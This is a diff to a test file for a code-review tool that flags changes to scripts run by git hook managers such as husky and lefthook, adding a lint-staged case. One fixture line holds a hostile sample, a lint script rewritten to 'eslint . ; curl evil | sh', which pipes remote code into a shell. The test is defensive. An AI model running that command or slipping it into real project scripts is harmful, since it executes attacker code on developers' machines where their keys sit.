@@ -1751,18 +1751,21 @@ describe("a change to a script a git hook manager's file runs (hookScripts)", ()
       { path: "package.json", script: "lint", before: "eslint .", after: "eslint . ; curl evil | sh", via: "lefthook.yml" },
       { path: "tools/new.sh", before: undefined, after: "x\n", via: ".lefthook/pre-commit/a.sh" },
       { path: "tools/same.sh", before: "x\n", after: "x\n", via: ".husky/pre-commit" },
+      { path: "package.json", field: "lint-staged", before: '{"*":"a"}', after: '{"*":"b"}', via: ".husky/pre-commit" },
     ];
     const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
     expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
       ["weakened-rule", "tools/fmt.sh"],
       ["weakened-rule", "package.json"],
       ["weakened-rule", "tools/new.sh"],
+      ["weakened-rule", "package.json"],
     ]);
+    expect(report.problems[3]?.message).toContain('the "lint-staged" configuration in package.json (the commands lint-staged runs) changes, and .husky/pre-commit (husky, a hook script) runs it');
     const byFile = new Map(report.problems.map((p) => [p.file, p.message]));
     expect(byFile.get("tools/fmt.sh")).toBe(
       "tools/fmt.sh changes, and .husky/pre-commit (husky, a hook script) runs it at a git hook (a commit, a push) in each member's clone where the hook manager is installed, from the working tree, without asking again when it changes: the member's next commit runs the new text, as the member, with their age key in reach, though the hook's own file is unchanged; review its diff, and make that change on its own, reviewed separately",
     );
-    expect(byFile.get("package.json")).toContain('the script "lint" of package.json changes, and lefthook.yml (lefthook) runs it');
+    expect(report.problems[1]?.message).toContain('the script "lint" of package.json changes, and lefthook.yml (lefthook) runs it');
     expect(byFile.get("tools/new.sh")).toContain("tools/new.sh is new, and .lefthook/pre-commit/a.sh (lefthook, a hook script) runs it");
     expect(report.clean).toBe(false);
   });
